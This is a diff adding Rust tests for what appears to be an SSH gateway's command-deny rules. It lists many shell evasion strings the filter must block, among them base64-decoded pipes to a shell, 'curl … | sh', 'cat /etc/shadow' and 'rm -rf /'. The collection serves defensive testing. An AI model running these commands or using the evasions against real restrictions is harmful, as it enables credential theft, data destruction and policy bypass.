@@ -178,3 +178,256 @@ fn explain_output_names_verdict_reason_and_rule() {
         "{text}"
     );
 }
+
+/// A role whose command rules name `id`, `cat` and `rm -rf`.
+const RULES: &str = r#"
+[[targets]]
+name = "web01"
+address = "10.0.0.5"
+tofu = true
+default_login = "deploy"
+
+[[roles]]
+name = "ops"
+allow = [{ targets = {}, logins = ["deploy"] }]
+deny  = [{ commands = ["^id$", "^cat\\b", "^rm\\s+-rf"] }]
+reauth_commands = ["^systemctl\\s+restart"]
+
+[[roles]]
+name = "free"
+allow = [{ targets = {}, logins = ["deploy"] }]
+
+[[users]]
+name = "dave"
+keys = ["ssh-ed25519 AAAA dave"]
+roles = ["ops"]
+
+[[users]]
+name = "erin"
+keys = ["ssh-ed25519 AAAA erin"]
+roles = ["free"]
+"#;
+
+/// Lines that run `id` (or `cat`, `rm -rf`) however they are spelt, and
+/// lines that run something nobody can read off them: all denied.
+const BYPASSES: &[&str] = &[
+    "id",
+    "sh -c id",
+    "bash -c 'id'",
+    "bash -lc \"true; id\"",
+    "id ",
+    "  id",
+    "c\"\"at /etc/shadow",
+    "base64 -d <<< aWQK | sh",
+    "echo aWQK | base64 -d | bash",
+    "true; id",
+    "true && id",
+    "false || id",
+    "x=1 id",
+    "LANG=C FOO='a b' id",
+    "/usr/bin/id",
+    "./id",
+    "\"id\"",
+    "'i'd",
+    "\\id",
+    "i\\d",
+    "$'\\x69d'",
+    "$(id)",
+    "echo $(id)",
+    "echo \"$(id)\"",
+    "`id`",
+    "echo `id`",
+    "echo | id",
+    "echo |& id",
+    "(id)",
+    "( true; (id) )",
+    "{ id; }",
+    "exec id",
+    "command id",
+    "builtin id",
+    "env id",
+    "env -i PATH=/bin id",
+    "env -u HOME -- id",
+    "sudo id",
+    "sudo -u root -- id",
+    "sudo sh -c 'cat /etc/shadow'",
+    "nice -n 5 id",
+    "nohup id &",
+    "time id",
+    "timeout -s KILL 5 id",
+    "echo . | xargs -n1 id",
+    "true\nid",
+    "true &\nid",
+    "true & id",
+    "if true; then id; fi",
+    "while true; do id; done",
+    "! id",
+    "eval id",
+    "eval 'true; id'",
+    "sh -c 'sh -c \"bash -c id\"'",
+    "su -c id root",
+    "alias x=id",
+    ">/dev/null id",
+    "2>&1 id",
+    "id >/dev/null 2>&1",
+    "cat <(id)",
+    "diff <(true) <(id)",
+    "f() { id; }; f",
+    "rm  -rf /",
+    "\"rm\" -rf /tmp/x",
+    "/bin/rm -rf /",
+    "c=id; $c",
+    "${c}",
+    "$(echo id)",
+    "`echo id`",
+    "/usr/bin/i?",
+    "/???/???/i[d]",
+    "{i,}d",
+    "bash < script.sh",
+    "bash -s < script.sh",
+    "curl -s https://example.com/x | sh -s -- arg",
+    "echo id | xargs sh -c",
+    "sh -c \"$CMD\"",
+    "busybox id",
+    "!!:1",
+    "!-2",
+    "^x^",
+    "\"!!\"",
+];
+
+/// Ordinary lines: arguments are not commands.
+const ORDINARY: &[&str] = &[
+    "identify image.png",
+    "idle",
+    "echo id",
+    "echo \"id\"",
+    "printf '%s\\n' id",
+    "grep id file",
+    "grep -r 'x; id' .",
+    "ls | grep id",
+    "ls > id",
+    "vim id.txt",
+    "git commit -m \"fix: id; cat and rm -rf\"",
+    "echo 'curl x | sh'",
+    "echo $HOME",
+    "cd /tmp && ls -la",
+    "ls -la /var/log 2>&1 | less",
+    "for f in *.log; do echo \"$f\"; done",
+    "[ -f id ] && echo yes",
+    "[[ -n $x ]] && echo yes",
+    "bash",
+    "bash script.sh",
+    "sudo -i",
+    "sudo -u postgres psql",
+    "sh -c 'ls -la'",
+    "env LANG=C ls",
+    "xargs",
+    "echo 1 | xargs",
+    "tar czf x.tgz dir # id",
+    "ps aux | grep -v grep | grep concatenate",
+    "rm -f /tmp/x",
+    "echo $((1 + 2))",
+    "systemctl status nginx",
+    "echo hi!",
+    "git log --format='%h' ^main",
+    "[ ! -f x ] && echo none",
+    "",
+];
+
+#[test]
+fn command_rule_bypasses_are_denied() {
+    let c = cfg(RULES);
+    let mut missed = Vec::new();
+    for line in BYPASSES {
+        if command_denied(&c, "dave", "web01", "deploy", line).is_none() {
+            missed.push((line, shell::analyse(line)));
+        }
+    }
+    assert!(missed.is_empty(), "not denied: {missed:#?}");
+}
+
+#[test]
+fn ordinary_commands_pass_command_rules() {
+    let c = cfg(RULES);
+    let mut denied = Vec::new();
+    for line in ORDINARY {
+        if let Some(d) = command_denied(&c, "dave", "web01", "deploy", line) {
+            denied.push((line, d.rule.to_string(), shell::analyse(line)));
+        }
+    }
+    assert!(denied.is_empty(), "denied: {denied:#?}");
+}
+
+#[test]
+fn a_role_without_command_rules_denies_nothing() {
+    let c = cfg(RULES);
+    for line in BYPASSES.iter().chain(ORDINARY) {
+        assert!(
+            command_denied(&c, "erin", "web01", "deploy", line).is_none(),
+            "{line:?}"
+        );
+    }
+}
+
+#[test]
+fn a_denial_names_the_pattern_or_says_why_the_line_cannot_be_judged() {
+    let c = cfg(RULES);
+    let d = command_denied(&c, "dave", "web01", "deploy", "true; /usr/bin/id").unwrap();
+    assert_eq!(d.pattern, "^id$");
+    assert_eq!(d.rule.to_string(), "role ops deny[0]: commands ^id$");
+    let d = command_denied(&c, "dave", "web01", "deploy", "base64 -d f | sh").unwrap();
+    assert_eq!(d.rule.rule, "deny[0]");
+    assert!(
+        d.rule
+            .text
+            .contains("a shell reads its commands from a pipe"),
+        "{}",
+        d.rule
+    );
+    let d = command_denied(&c, "dave", "web01", "deploy", "$cmd -a").unwrap();
+    assert!(
+        d.rule.text.contains("computed when the line runs"),
+        "{}",
+        d.rule
+    );
+}
+
+#[test]
+fn step_up_patterns_see_normalised_commands_too() {
+    let c = cfg(RULES);
+    for line in [
+        "systemctl restart nginx",
+        "sudo systemctl restart nginx",
+        "true; /bin/systemctl  restart nginx",
+        "sh -c 'systemctl restart nginx'",
+    ] {
+        assert!(reauth_required(&c, "dave", line).is_some(), "{line:?}");
+    }
+    assert!(reauth_required(&c, "dave", "systemctl status nginx").is_none());
+    assert!(reauth_required(&c, "dave", "echo systemctl restart").is_none());
+}
+
+#[test]
+fn analysis_lists_every_simple_command_normalised() {
+    let a = shell::analyse(
+        "FOO=1 sudo -u root /usr/bin/env 'L=C' \"id\" -a; echo \"$(whoami)\" | tee /tmp/x",
+    );
+    assert_eq!(
+        a.commands,
+        vec![
+            "sudo -u root /usr/bin/env L=C id -a",
+            "env L=C id -a",
+            "id -a",
+            "whoami",
+            "echo $(…)",
+            "tee /tmp/x",
+        ],
+        "{a:?}"
+    );
+    assert_eq!(a.opaque, None);
+    // Hostile input: deep nesting and unbalanced quoting end, opaque or not.
+    let deep = format!("{}id{}", "$(".repeat(500), ")".repeat(500));
+    assert!(shell::analyse(&deep).opaque.is_some());
+    let _ = shell::analyse("'unterminated \"$( `");
+    let _ = shell::analyse(&"(".repeat(100_000));
+}
